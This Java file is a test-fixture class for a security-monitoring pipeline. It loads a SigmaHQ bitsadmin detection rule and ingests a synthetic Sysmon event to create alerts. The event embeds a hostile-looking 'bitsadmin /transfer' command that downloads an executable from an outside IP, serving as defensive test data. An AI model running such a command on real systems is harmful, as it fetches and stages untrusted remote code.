package vn.khien.monitoring;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;

import vn.khien.AccessFixtures;
import vn.khien.FixturePrincipal;
import vn.khien.monitoring.internal.EventPipeline;

/**
 * Sources, rules and alerts for the access matrix, made the way they are in use (a
 * source's batch through the pipeline, a rule loaded from SigmaHQ), as the test-fixtures
 * principal.
 */
final class MonitoringFixtures {

	private final EventSources sources;

	private final DetectionRules rules;

	private final EventPipeline pipeline;

	private final JdbcClient jdbc;

	MonitoringFixtures(ApplicationContext context) {
		this.sources = FixturePrincipal.wrap(context.getBean(EventSources.class));
		this.rules = FixturePrincipal.wrap(context.getBean(DetectionRules.class));
		this.pipeline = context.getBean(EventPipeline.class);
		this.jdbc = context.getBean(JdbcClient.class);
	}

	long source(long agencyId) {
		return sources.create("matrix-" + agencyId + "-" + System.nanoTime(), List.of(agencyId)).source().id();
	}

	long rule() {
		try {
			rules.load("bitsadmin.yml", MonitoringCalls.resource(MonitoringTests.BITSADMIN_RULE), null);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return jdbc.sql("SELECT id FROM detection_rule WHERE rule_uid = :u")
			.param("u", MonitoringTests.BITSADMIN)
			.query(Long.class)
			.single();
	}

	/**
	 * A fresh alert of the agency: the regression event from a source bound to it, on a
	 * host of its own.
	 */
	long alert(long agencyId) {
		rule();
		var created = sources.create("matrix-" + agencyId + "-" + System.nanoTime(), List.of(agencyId));
		String host = "matrix" + System.nanoTime() + ".example";
		String event = """
				{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "%s", \
				"Image": "C:\\\\Windows\\\\System32\\\\bitsadmin.exe", \
				"CommandLine": "bitsadmin /transfer job /download /priority foreground http://203.0.113.5/a.exe C:\\\\a.exe", \
				"@timestamp": "2026-11-30T02:00:00.000Z"}
				"""
			.formatted(host);
		pipeline.ingest(new EventSources.Bound(created.source().id(), created.source().name(), List.of(agencyId)),
				new ByteArrayInputStream(event.getBytes(StandardCharsets.UTF_8)), false);
		return jdbc.sql("SELECT id FROM alert WHERE host_name = :h").param("h", host).query(Long.class).single();
	}

	/** A host name no inventory holds, as the pipeline keeps one, of a fresh source. */
	String unknownHost(long agencyId) {
		String key = "host:" + AccessFixtures.unique("unknown").toLowerCase(java.util.Locale.ROOT);
		java.sql.Timestamp now = java.sql.Timestamp.from(java.time.Instant.now());
		jdbc.sql("""
				INSERT INTO monitoring_unknown_host (host_key, source_id, first_seen_at, last_seen_at, events)
				VALUES (:k, :s, :at, :at, 3)""").param("k", key).param("s", source(agencyId)).param("at", now).update();
		return key;
	}

}
